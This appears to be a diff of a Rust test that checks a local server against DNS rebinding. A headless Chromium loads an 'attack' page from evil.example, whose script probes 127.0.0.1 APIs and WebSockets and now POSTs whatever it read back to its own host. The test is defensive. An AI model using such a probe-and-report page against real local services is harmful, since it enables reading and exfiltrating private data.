@@ -3,13 +3,14 @@
 //! Chromium is told that the page's name is this machine's, as it would be after DNS rebinding. The page tries what pages
 //! can: requests by script, forms, pictures, WebSockets.
 
-use crate::support::{Film, Pond, Upstream, get, is_missing, rule};
-use std::io::{Read, Write};
-use std::net::TcpListener;
-use std::process::Command;
+use crate::support::{Film, PATIENCE, Pond, Upstream, get, is_missing, rule};
+use std::io::{BufRead, BufReader, Read, Write};
+use std::net::{TcpListener, TcpStream};
+use std::process::{Command, Stdio};
+use std::sync::mpsc::{Receiver, Sender, channel};
 use tempfile::TempDir;
 
-/// The page; `POND` stands for the server's port. What it could read stands in its body at the end.
+/// The page; `POND` stands for the server's port. What it could read it reports to its own server at the end.
 const PAGE: &str = r#"<!DOCTYPE html><title>attack</title><body><iframe name=f></iframe><script>
 const pond = "http://127.0.0.1:POND", own = "http://evil.example:POND", seen = [];
 const note = (what, text) => seen.push(what + ": " + String(text).slice(0, 200));
@@ -46,49 +47,92 @@ function socket(url) {
     await picture(pond + "/-/api/v1/objects?prefix=http");
     await socket("ws://127.0.0.1:POND/film");
     await socket("ws://127.0.0.1:POND/-/api/v1/objects");
-    document.body.textContent = "DONE " + seen.join(" | ");
+    await fetch("/report", {method: "POST", body: seen.join(" | ")});
 })();
 </script></body>"#;
 
-/// A server of that page, whatever is asked for; its port.
-fn serve_page(page: String) -> u16 {
+/// A server of that page, whatever is asked for; its port, and what the page reports.
+fn serve_page(page: String) -> (u16, Receiver<String>) {
     let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
     let port = listener.local_addr().expect("bound").port();
+    let (report, reported) = channel();
     std::thread::spawn(move || {
         for stream in listener.incoming() {
-            let (mut stream, page) = (stream.expect("connected"), page.clone());
-            std::thread::spawn(move || {
-                let _ = stream.read(&mut [0; 4096]);
-                let length = page.len();
-                let head = format!(
-                    "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {length}\r\nConnection: close\r\n\r\n"
-                );
-                let _ = stream.write_all(head.as_bytes());
-                let _ = stream.write_all(page.as_bytes());
-            });
+            let (stream, page, report) = (stream.expect("connected"), page.clone(), report.clone());
+            std::thread::spawn(move || answer(stream, &page, &report));
         }
     });
-    port
+    (port, reported)
 }
 
-/// The document of the URL in Chromium, when its scripts have come to rest.
-fn browse(url: &str) -> String {
-    let profile = TempDir::new().expect("a directory");
-    let output = Command::new("chromium")
+fn answer(stream: TcpStream, page: &str, report: &Sender<String>) {
+    let mut stream = BufReader::new(stream);
+    let (mut first, mut length) = (String::new(), 0);
+    loop {
+        let mut line = String::new();
+        if stream.read_line(&mut line).unwrap_or(0) <= 2 {
+            break;
+        }
+        if let Some((_, value)) = line
+            .split_once(':')
+            .filter(|(name, _)| name.eq_ignore_ascii_case("content-length"))
+        {
+            length = value.trim().parse().expect("a length");
+        }
+        if first.is_empty() {
+            first = line;
+        }
+    }
+    if first.starts_with("POST /report") {
+        let mut body = vec![0; length];
+        if stream.read_exact(&mut body).is_ok() {
+            // A report behind the first finds nobody.
+            let _ = report.send(String::from_utf8_lossy(&body).into_owned());
+        }
+    }
+    let head = format!(
+        "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
+        page.len()
+    );
+    let _ = stream.get_mut().write_all(head.as_bytes());
+    let _ = stream.get_mut().write_all(page.as_bytes());
+}
+
+/// Chromium with a profile of its own, in which that name is this machine's.
+fn chromium(profile: &TempDir) -> Command {
+    let mut command = Command::new("chromium");
+    command
         .args([
             "--headless",
             "--no-sandbox",
             "--disable-gpu",
             "--disable-dev-shm-usage",
             "--host-resolver-rules=MAP evil.example 127.0.0.1",
-            "--virtual-time-budget=60000",
-            "--dump-dom",
         ])
         .arg(format!("--user-data-dir={}", profile.path().display()))
-        .arg(url)
-        .output()
+        .stderr(Stdio::null());
+    command
+}
+
+/// The report of the page at the URL.
+fn report_of(url: &str, reported: &Receiver<String>) -> String {
+    let profile = TempDir::new().expect("a directory");
+    let mut child = chromium(&profile)
+        .args(["--remote-debugging-port=0", url])
+        .stdout(Stdio::null())
+        .spawn()
         .expect("chromium is installed");
-    String::from_utf8_lossy(&output.stdout).into_owned()
+    let report = reported.recv_timeout(PATIENCE);
+    let _ = child.kill();
+    let _ = child.wait();
+    report.expect("the page came to its end")
+}
+
+/// The document of the URL, as Chromium has it.
+fn document_of(url: &str) -> String {
+    let profile = TempDir::new().expect("a directory");
+    let output = chromium(&profile).args(["--dump-dom", url]).output();
+    String::from_utf8_lossy(&output.expect("chromium is installed").stdout).into_owned()
 }
 
 #[test]
@@ -114,9 +158,12 @@ fn a_page_of_another_site_reads_nothing_and_changes_nothing() {
     pond.until_state("complete");
     let before = pond.object();
     let page = PAGE.replace("POND", &pond.address().port().to_string());
-    let port = serve_page(page);
-    let seen = browse(&format!("http://evil.example:{port}/"));
-    assert!(seen.contains("DONE "), "the page did not come to its end: {seen}");
+    let (port, reported) = serve_page(page);
+    let seen = report_of(&format!("http://evil.example:{port}/"), &reported);
+    assert!(
+        seen.contains("list: blocked") && seen.contains("socket: refused"),
+        "{seen}"
+    );
     for read in [
         "complete",
         upstream.url().as_str(),
@@ -132,7 +179,7 @@ fn a_page_of_another_site_reads_nothing_and_changes_nothing() {
         "{seen}"
     );
     // By the name that was made to point here, as the whole page.
-    let rebound = browse(&format!(
+    let rebound = document_of(&format!(
         "http://evil.example:{}/-/api/v1/objects",
         pond.address().port()
     ));
